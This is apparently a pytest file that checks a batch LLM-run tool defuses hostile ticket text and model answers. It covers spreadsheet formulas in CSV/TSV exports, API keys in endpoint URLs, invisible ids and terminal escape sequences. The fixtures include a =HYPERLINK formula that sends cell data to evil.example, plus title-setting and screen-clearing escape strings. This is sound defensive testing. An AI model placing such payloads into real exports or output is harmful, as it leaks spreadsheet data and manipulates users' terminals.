"""What a user's input and a model's text can still do to a person reading the results (issue 24).

Spreadsheet formulas in exports, keys in any part of an endpoint URL, ids that
cannot be seen, terminal escape sequences: each test runs the real commands
against the embedded simulator (its `hostile_text` answers) and reads what a
person, a spreadsheet or a terminal would get."""

from __future__ import annotations

import csv
from pathlib import Path

import orjson
import pytest

from conftest import invoke_cli, read_jsonl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_JOB = """\
name = "hostile"
input = "tickets.jsonl"
run_dir = "run"
model = "openai/gpt-4o-mini"
concurrency = 4
timeout_s = 10
workers = 1

[prompt]
system = "Classify the ticket as exactly one of: bug, feature, billing, other."
user = "Subject: {{subject}}\\n\\n{{body}}"

[params]
max_tokens = 5

[retry]
max_attempts = 2
initial_backoff_s = 0.01
max_backoff_s = 0.02

[simulator]
latency_ms = 1
jitter = 0

[[simulator.scripts]]
rate = 1
steps = ["hostile_text"]
{extra}
"""

FORMULA_TICKETS = [
    {"id": "F1", "subject": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "body": "+1+1"},
    {"id": "F2", "subject": "-2+3", "body": "@SUM(A1:A9)"},
    {"id": "F3", "subject": "\t=1+1", "body": "\r=1+1"},
    {"id": "=F4", "subject": "plain", "body": "plain"},
]


def write_job(base: Path, tickets: list[dict], extra: str = "") -> Path:
    (base / "tickets.jsonl").write_bytes(b"".join(orjson.dumps(t) + b"\n" for t in tickets))
    job = base / "job.toml"
    job.write_text(HOSTILE_JOB.format(extra=extra))
    return job


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """Four tickets whose fields are formulas, each answered with HOSTILE_TEXT (a formula + escapes)."""
    base = tmp_path_factory.mktemp("hostile")
    job = write_job(base, FORMULA_TICKETS)
    done = invoke_cli("run", str(job), "--no-progress")
    assert done.returncode == 0, done.stderr
    return base / "run"


# -- 1. exports safe to open -----------------------------------------------------------------------

@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
def test_no_exported_cell_starts_like_a_formula(hostile_run, tmp_path, fmt, delimiter):
    out = tmp_path / f"export.{fmt}"
    result = invoke_cli("export", str(hostile_run), "--format", fmt, "--with-input", "--out", str(out))
    assert result.returncode == 0, result.stderr
    with out.open(newline="", encoding="utf-8") as handle:  # as a spreadsheet reads it
        rows = list(csv.reader(handle, delimiter=delimiter))
    header, body = rows[0], rows[1:]
    assert len(body) == 4
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    by_id = {row[0]: dict(zip(header, row)) for row in body}
    assert set(by_id) == {"F1", "F2", "F3", "'=F4"}  # an id is a cell like any other
    assert by_id["F1"]["output"].startswith("'=HYPERLINK(")  # the text kept, made inert
    assert by_id["F1"]["input.subject"] == "'" + FORMULA_TICKETS[0]["subject"]
    assert by_id["F2"]["input.subject"] == "'-2+3" and by_id["F2"]["input.body"] == "'@SUM(A1:A9)"
    assert by_id["F3"]["input.subject"] == "'\t=1+1" and by_id["F3"]["input.body"] == "'\r=1+1"
    assert by_id["F1"]["cost_usd"] and not by_id["F1"]["cost_usd"].startswith("'")  # numbers stay numbers


def test_raw_cells_opt_out_writes_the_text_as_it_is(hostile_run, tmp_path):
    out = tmp_path / "raw.csv"
    result = invoke_cli("export", str(hostile_run), "--format", "csv", "--with-input", "--raw-cells",
                        "--out", str(out))
    assert result.returncode == 0, result.stderr
    with out.open(newline="", encoding="utf-8") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    answers = {row["id"]: row["output"] for row in read_jsonl(hostile_run / "results.jsonl")}
    assert rows["F1"]["output"] == answers["F1"] and rows["F1"]["output"].startswith("=HYPERLINK(")
    assert rows["F2"]["input.subject"] == "-2+3" and "=F4" in rows


# -- 4. secrets in any part of a URL ------------------------------------------------------------------

PATH_KEY = "sk-SENTINELpath0123456789abcdef"  # a gateway that takes the key in the path
HEX_KEY = "deadbeef" * 4  # a key-shaped path segment without a known prefix
PASSWORD = "SENTINELpassword"  # userinfo
QUERY_KEY = "SENTINELquery0123456789"


def _grep_tree(root: Path, needles: tuple[str, ...]) -> list[str]:
    found = []
    for path in root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            found += [f"{path}: {n}" for n in needles if n.encode() in data]
    return found


async def _serve_texts(root: Path, name: str) -> list[str]:
    from aiohttp.test_utils import TestClient, TestServer

    from batchrun.serve.app import build_app

    texts = []
    async with TestClient(TestServer(build_app(root, show_text=True))) as client:
        for path in ("/", f"/runs/{name}", "/api/runs", f"/api/runs/{name}"):
            response = await client.get(path)
            assert response.status == 200, path
            texts.append(await response.text())
    return texts


@pytest.mark.slow  # three fresh interpreters (litellm's -vv debug log: not the warm process)
def test_a_key_in_any_part_of_the_endpoint_url_is_shown_nowhere(tmp_path, cli_env):
    import subprocess

    import anyio

    from batchrun.sim.config import SimConfig
    from batchrun.sim.process import start_simulator
    from conftest import batchrun_cmd, write_tickets

    write_tickets(tmp_path / "tickets.jsonl", 6)
    job = tmp_path / "job.toml"
    job.write_text(HOSTILE_JOB.format(extra=""))
    needles = (PATH_KEY, HEX_KEY, PASSWORD, QUERY_KEY)
    with start_simulator(SimConfig(latency_ms=1, jitter=0, scripts=("T000002=500;500",))) as sim:
        host = sim.base_url.split("://", 1)[1].split("/", 1)[0]
        # a key in the query string or the userinfo is refused at load (it cannot work), and not repeated
        refused = {}
        for where, bad in (("query", f"http://{host}/{PATH_KEY}/v1?key={QUERY_KEY}"),
                           ("userinfo", f"http://user:{PASSWORD}@{host}/{PATH_KEY}/v1")):
            refused[where] = subprocess.run(batchrun_cmd("run", str(job), "--api-base", bad, "--no-progress"),
                                            env=cli_env, capture_output=True, text=True, timeout=120)
            assert refused[where].returncode == 2, refused[where].stderr
        assert "query string" in refused["query"].stderr and "credentials" in refused["userinfo"].stderr
        # a key in the path: the run works and shows it nowhere
        api_base = f"http://{host}/{PATH_KEY}/{HEX_KEY}/v1"
        log = tmp_path / "run.log"
        run = subprocess.run(batchrun_cmd("run", str(job), "--api-base", api_base, "--no-progress", "-vv",
                                          "--log-file", str(log)), env=cli_env, capture_output=True, text=True,
                             timeout=180)
        assert run.returncode == 3, run.stderr  # T000002 failed (two 500s): its message is shown too
        assert sim.stats()["requests_by_ticket"]["T000001"] == 1  # the gateway path was used
    outputs = {"query": refused["query"].stderr, "userinfo": refused["userinfo"].stderr, "stdout": run.stdout,
               "stderr": run.stderr, "log": log.read_text()}
    run_dir = tmp_path / "run"
    manifest = orjson.loads((run_dir / "manifest.json").read_bytes())
    assert manifest["endpoint"].startswith(f"http://{host}/***/***/v1"), manifest["endpoint"]
    assert f"via http://{host}/***/***/v1" in run.stderr  # the header
    status = invoke_cli("status", str(run_dir))
    status_json = invoke_cli("status", str(run_dir), "--json")
    outputs.update({"status": status.stdout + status.stderr, "status --json": status_json.stdout})
    for number, text in enumerate(anyio.run(_serve_texts, tmp_path, "run")):
        outputs[f"serve {number}"] = text
    leaks = [f"{where}: {n}" for where, text in outputs.items() for n in needles if n in text]
    leaks += _grep_tree(tmp_path / "run", needles)
    assert not leaks, leaks
    assert "***" in outputs["status"] and "***" in outputs["status --json"]


def test_redaction_of_urls_in_text_and_in_an_old_manifest(tmp_path):
    from batchrun.errors import redact_secrets, redact_url
    from batchrun.rundir.status import status_from_counts

    url = f"https://user:{PASSWORD}@gw.example:8443/{PATH_KEY}/{HEX_KEY}/v1?key={QUERY_KEY}&api-version=2024-06"
    assert redact_url(url) == "https://gw.example:8443/***/***/v1"
    for model_path in ("/openai/deployments/gpt-4o-mini-2024-07-18/v1", "/v1beta", "/meta-llama-3.1-8b-instruct"):
        assert redact_url("http://h" + model_path) == "http://h" + model_path  # names are not keys
    text = redact_secrets(f"POST {url} failed; curl -X POST {url}")
    assert not [n for n in (PATH_KEY, HEX_KEY, PASSWORD, QUERY_KEY) if n in text], text
    assert "gw.example:8443" in text
    # a manifest written before (the endpoint as it was stored then) is shown redacted
    shown = status_from_counts(tmp_path, {"endpoint": f"http://gw.example/{PATH_KEY}/v1", "input": {}}, done=0,
                               failed=0, cost_usd=0.0, unpriced=0, total_tokens=0, rejected_lines=0, live=False,
                               done_ids=set())
    assert shown["endpoint"] == "http://gw.example/***/v1"


# -- 9. ids that cannot be seen ---------------------------------------------------------------------

BAD_IDS = {
    2: "\u200b",            # a zero-width space: nothing to see
    3: " A1",               # leading whitespace
    4: "A2 ",               # trailing whitespace
    5: "A\x00B",            # NUL
    6: "A\nB",              # a newline
    7: "A\tB",              # a tab
    8: "\u202eABC",         # a right-to-left override
    9: "\u3000",            # an ideographic space only
    10: "A\u0085B",         # a C1 control (next line)
    11: "\u200b\u2060",     # only format characters
    12: "ABC\u200d",        # trailing invisible
}


def test_ids_that_cannot_be_seen_are_refused_at_load_naming_the_line(tmp_path):
    lines = [{"id": "OK1", "subject": "s", "body": "b"}]
    lines += [{"id": bad, "subject": "s", "body": "b"} for _, bad in sorted(BAD_IDS.items())]
    lines += [{"id": 7, "subject": "s", "body": "b"}, {"id": "Ünïcödé-ok", "subject": "s", "body": "b"}]
    job = write_job(tmp_path, lines)
    result = invoke_cli("run", str(job), "--no-progress")
    assert result.returncode == 2, result.stdout + result.stderr
    text = result.stderr
    assert f"{len(BAD_IDS)} bad line(s); nothing was requested" in text, text
    for number in BAD_IDS:
        assert f"tickets.jsonl:{number}: " in text, (number, text)
    assert "tickets.jsonl:1:" not in text and "tickets.jsonl:13:" not in text and "tickets.jsonl:14:" not in text
    for raw in ("\u200b", "\x00", "\u202e", "\u3000", "\u0085", "\u2060", "\u200d"):
        assert raw not in text  # each shown escaped
    assert "'\\u200b'" in text and "leading or trailing" in text and "control character" in text
    assert not (tmp_path / "run" / "results.jsonl").exists()


def test_a_csv_id_with_surrounding_spaces_is_refused_too(tmp_path):
    (tmp_path / "tickets.csv").write_text("id,subject,body\nA1,s,b\n A2,s,b\n")
    job = write_job(tmp_path, [{"id": "x", "subject": "s", "body": "b"}])
    result = invoke_cli("run", str(job), "--no-progress", "--input", str(tmp_path / "tickets.csv"))
    assert result.returncode == 2 and "row 2" in result.stderr and "leading or trailing" in result.stderr, \
        result.stderr


# -- 10. terminal output ------------------------------------------------------------------------------

TERMINAL_ACTIVE = ("\x1b", "\x07", "\x9b", "\u202e", "\r")  # ESC (OSC, CSI), BEL, C1 CSI, RLO, CR


def _job_with(base: Path, scripts: str, top: str = "") -> Path:
    write_tickets_from_sample(base, 8)
    job = base / "job.toml"
    text = HOSTILE_JOB.format(extra="").replace('rate = 1\nsteps = ["hostile_text"]', scripts)
    job.write_text(top + text)
    return job


def write_tickets_from_sample(base: Path, n: int) -> None:
    from conftest import write_tickets

    write_tickets(base / "tickets.jsonl", n)


def test_no_command_prints_what_a_terminal_would_act_on(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "c").mkdir()
    job_a = _job_with(tmp_path / "a", 'tickets = ["T000001", "T000002", "T000003"]\nsteps = ["hostile_text"]')
    job_b = _job_with(tmp_path / "b", 'tickets = ["T000004"]\nsteps = ["hostile_text"]')
    job_c = _job_with(tmp_path / "c", 'tickets = ["T000002"]\nsteps = ["hostile_text", "hostile_text", "hostile_text"]',
                      top='labels = ["bug", "feature", "billing", "other"]\n')
    outputs: dict[str, str] = {}
    for name, job, code in (("a", job_a, 0), ("b", job_b, 0), ("c", job_c, 3)):
        done = invoke_cli("run", str(job), "--no-progress", "-v")
        assert done.returncode == code, done.stderr
        outputs[f"run {name}"] = done.stdout + done.stderr
    answers = [row["output"] for row in read_jsonl(tmp_path / "a" / "run" / "results.jsonl")]
    assert any("\x1b]0;pwned" in answer for answer in answers)  # stored as it came: data, kept whole
    run_a, run_b, run_c = (tmp_path / name / "run" for name in "abc")
    for args in (("report", str(run_a)), ("report", str(run_c)), ("diff", str(run_a), str(run_b)),
                 ("status", str(run_a)), ("status", str(run_c)), ("export", str(run_a), "--format", "csv")):
        result = invoke_cli(*args)
        assert result.returncode in (0, 3), (args, result.stderr)
        outputs[" ".join(args[:1])] = outputs.get(" ".join(args[:1]), "") + result.stdout + result.stderr
    found = {where: sorted({repr(c) for c in TERMINAL_ACTIVE if c in text}) for where, text in outputs.items()}
    assert not {where: chars for where, chars in found.items() if chars}, found
    # the answer is still shown (in the failure's message), with what a terminal acts on escaped
    assert "pwned" in outputs["run c"] and "\\u202eevil\\u202c" in outputs["run c"] and "\\x9b31m" in outputs["run c"]


def test_every_formatter_escapes_what_a_terminal_acts_on():
    from batchrun.analysis.stats import RunStats, format_summary
    from batchrun.analysis.textfmt import error_line, kv, table, terminal_safe
    from batchrun.errors import BatchrunError
    from batchrun.records import Outcome

    hostile = "ok\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eevil\u202c\r\ttail"
    assert terminal_safe(hostile) == "ok\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\u202eevil\\u202c\\x0d\\x09tail"
    assert terminal_safe("line one\nline two") == "line one\nline two"
    # zero-width, private-use and separator characters hide or reorder text too (one function for all)
    assert terminal_safe("a\u200bb\ue000c\u2028d\U000e0041") == "a\\u200bb\\ue000c\\u2028d\\U000e0041"
    assert terminal_safe("caf\u00e9 \u6f22\u5b57 \U0001f600") == "caf\u00e9 \u6f22\u5b57 \U0001f600"
    stats = RunStats(to_do=1)
    stats.record(Outcome(ticket_id="T1", attempts=1, started_at="", finished_at="", elapsed_ms=1.0, run=1,
                         error_kind="server_error", error_message=hostile))
    texts = ["\n".join(table(["answer"], [[hostile]])), "\n".join(kv([("answer", hostile)])),
             format_summary(stats.summary()), error_line(BatchrunError(hostile))]
    for text in texts:
        assert not [c for c in TERMINAL_ACTIVE + ("\t",) if c in text], repr(text)
        assert "pwned" in text
